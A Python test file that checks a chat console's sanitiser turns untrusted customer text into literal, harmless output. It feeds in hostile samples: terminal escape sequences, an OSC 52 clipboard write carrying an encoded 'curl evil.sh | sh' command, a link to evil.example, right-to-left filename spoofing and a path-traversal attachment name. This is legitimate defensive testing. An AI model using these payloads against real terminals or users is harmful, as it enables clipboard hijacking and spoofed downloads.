"""Customer text is untrusted: it must show literally and never drive the terminal."""
from __future__ import annotations

import pytest
from rich.console import Console

from console.widgets.safe_text import clean, one_line, safe

HOSTILE = [
    ("\x1b[2J\x1b[Hcleared", "cleared"),  # clear screen, cursor home
    ("\x1b[31mred\x1b[0m text", "red text"),  # colours
    ("\x1b]0;owned title\x07after", "after"),  # OSC window title (BEL)
    ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\paste", "paste"),  # OSC 52 clipboard write (ST)
    ("\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),  # OSC 8 hyperlink
    ("\x1bP+q544e\x1b\\dcs", "dcs"),  # DCS request
    ("\x9b31mC1 csi", "C1 csi"),  # 8-bit CSI
    ("\x9d0;t\x9cst", "st"),  # 8-bit OSC ... ST
    ("bell\x07 back\x08space", "bell backspace"),
    ("null\x00byte", "nullbyte"),
    ("\x1b(0line drawing\x1b(B", "line drawing"),  # charset switch
    ("\x1b7save\x1b8", "save"),  # save/restore cursor
    ("abc\u202etxt.exe", "abctxt.exe"),  # right-to-left override (spoofed names)
    ("tab\there", "tab    here"),
    ("cr\rlf", "cr\nlf"),
    ("unterminated \x1b]0;title never ends", "unterminated "),
]


@pytest.mark.parametrize("raw,expected", HOSTILE)
def test_control_sequences_are_removed(raw, expected):
    assert clean(raw) == expected


def test_nothing_below_space_survives_but_newlines():
    everything = "".join(chr(c) for c in range(0, 0xA0)) + "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    out = clean(everything)
    assert all(c == "\n" or c == " " or (0x20 <= ord(c) < 0x7f) for c in out)
    assert "\x1b" not in out


def test_rich_markup_is_shown_literally():
    console = Console(width=80, record=True, color_system=None)
    console.print(safe("[bold red]cheap[/] [link=http://x]y[/link] :smile:"))
    assert console.export_text().strip() == "[bold red]cheap[/] [link=http://x]y[/link] :smile:"


def test_rendered_output_has_no_escape_from_the_customer():
    console = Console(width=80, record=True, color_system=None, force_terminal=True)
    console.print(safe("\x1b]0;pwned\x07\x1b[2Jhello \x1b[5mblink"))
    with console.capture() as cap:
        console.print(safe("\x1b]0;pwned\x07\x1b[2Jhello \x1b[5mblink"))
    assert cap.get() == "hello blink\n"


def test_one_line_flattens_and_shortens():
    assert one_line("a\n\nb\tc", 10) == "a b c"
    assert one_line("x" * 20, 5) == "xxxx…"
    assert one_line(None) == ""


# -- through the whole console ------------------------------------------------------
@pytest.fixture
def anyio_backend():
    return "asyncio"


@pytest.mark.anyio
async def test_hostile_message_in_the_console(db_path, clock, tmp_path):
    from store import Store
    from store.models import AttachmentIn, InboundMessage, Sender
    from tests.support.console import make_app, screen_text, settle

    s = Store(db_path, clock=clock)
    s.ingest(InboundMessage(
        "telegram", "main", "h1",
        Sender("telegram", "666", "[red]Mallory[/red]\x1b[2J", "mal\x1b]0;x\x07lory"),
        "[bold]not bold[/bold] \x1b[31mnot red\x1b[0m \x1b]52;c;ZXZpbA==\x07 \x1b]8;;http://evil\x07link\x1b]8;;\x07",
        clock() - 60, subject="\x1b[2Jsubject",
        attachments=[AttachmentIn("../../etc/\u202egpj.exe", "application/x-msdownload", b"MZ")],
    ))
    s.close()
    app = make_app(db_path, clock, tmp_path)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        text = screen_text(app)
        assert "[red]Mallory[/red]" in text  # the name, literally
        assert "[bold]not bold[/bold] not red  link" in text
        assert "\x1b" not in text and "\x07" not in text
        assert "gpj.exe" in text and "\u202e" not in text and "../" not in text
        # and nothing on screen is styled by the customer's markup
        for strip in app.screen._compositor.render_strips():
            for seg in strip:
                if "not bold" in seg.text:
                    assert not (seg.style and seg.style.bold)


@pytest.mark.anyio
async def test_new_message_toast_shows_markup_literally(db_path, clock, tmp_path):
    from store import Store
    from store.models import InboundMessage, Sender
    from tests.support.console import make_app, screen_text, settle, until

    Store(db_path, clock=clock).close()
    app = make_app(db_path, clock, tmp_path)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        s = Store(db_path, clock=clock)
        s.ingest(InboundMessage("telegram", "main", "t1", Sender("telegram", "7", "[b]Boss[/b]"),
                                "[@click=app.quit]free money[/] \x1b[5m", clock() - 5))
        s.close()
        # one look at the screen: the toast lasts 4 s and a loaded box may be slower than that to settle
        shown = "[b]Boss[/b]: [@click=app.quit]free money[/]"
        await until(pilot, lambda: "New message" in screen_text(app) and shown in screen_text(app))
        assert app.is_running
